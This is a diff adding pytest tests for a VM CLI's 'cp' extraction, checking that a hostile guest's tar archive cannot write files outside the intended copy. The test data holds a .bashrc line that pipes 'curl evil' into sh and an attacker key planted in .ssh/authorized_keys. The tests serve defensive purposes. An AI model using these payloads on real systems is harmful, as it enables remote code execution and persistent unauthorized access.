@@ -1,0 +1,77 @@
+"""`vm cp box:SRC DST` against a hostile guest, at the CLI's extraction (cli/cp.py):
+what the guest sends lands only where cp would put the copy, with the user's umask."""
+
+from __future__ import annotations
+
+import io
+import os
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from banger.cli import cp
+from banger.cli.cppath import pair
+
+
+def _tar(entries: list[tuple[str, bytes | None, int]]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        for name, data, mode in entries:
+            info = tarfile.TarInfo(name)
+            info.mode, info.mtime = mode, 1_000_000
+            if data is None:
+                info.type = tarfile.DIRTYPE
+                tar.addfile(info)
+            else:
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def _copy_out(guest_tar: bytes, src: str, dst: str, recursive: bool = True) -> None:
+    s, d = pair(src, dst)
+    cp._extract(iter([guest_tar]), s, d, recursive, cp._Progress())
+
+
+def test_a_guest_cannot_name_files_beside_the_copy(tmp_path: Path) -> None:
+    """cp box:/root/log.txt ~/ : the guest answers with .bashrc instead."""
+    home = tmp_path / "home"
+    home.mkdir()
+    evil = _tar([(".bashrc", b"curl evil | sh\n", 0o644)])
+    _copy_out(evil, "box:/root/log.txt", str(home))
+    assert not (home / ".bashrc").exists()
+    assert os.listdir(home) == ["log.txt"]  # the guest's bytes, under the asked name
+
+
+def test_a_guest_cannot_add_a_second_tree(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    evil = _tar([("log", None, 0o755), ("log/a", b"1", 0o644), (".ssh", None, 0o700),
+                 (".ssh/authorized_keys", b"ssh-ed25519 AAAA evil\n", 0o600)])
+    with pytest.raises(cp.CpError):
+        _copy_out(evil, "box:/root/log", str(home))
+    assert not (home / ".ssh").exists()
+    assert (home / "log/a").read_bytes() == b"1"  # what came before the refusal stays
+
+
+def test_the_copy_takes_the_guest_paths_name(tmp_path: Path) -> None:
+    into = tmp_path / "into"
+    into.mkdir()
+    _copy_out(_tar([("other", None, 0o755), ("other/f", b"x", 0o644)]),
+              "box:/root/tree/", str(into))
+    assert (into / "tree/f").read_bytes() == b"x"
+    assert not (into / "other").exists()
+
+
+def _later_umask(tmp_path: Path) -> None:
+    old = os.umask(0o022)
+    try:
+        _copy_out(_tar([("t", None, 0o777), ("t/f", b"x", 0o666), ("t/x", b"#!", 0o777)]),
+                  "box:/root/t", str(tmp_path / "out"))
+    finally:
+        os.umask(old)
+    out = tmp_path / "out"
+    assert out.stat().st_mode & 0o777 == 0o755
+    assert (out / "f").stat().st_mode & 0o777 == 0o644
+    assert (out / "x").stat().st_mode & 0o777 == 0o755  # exec bits kept
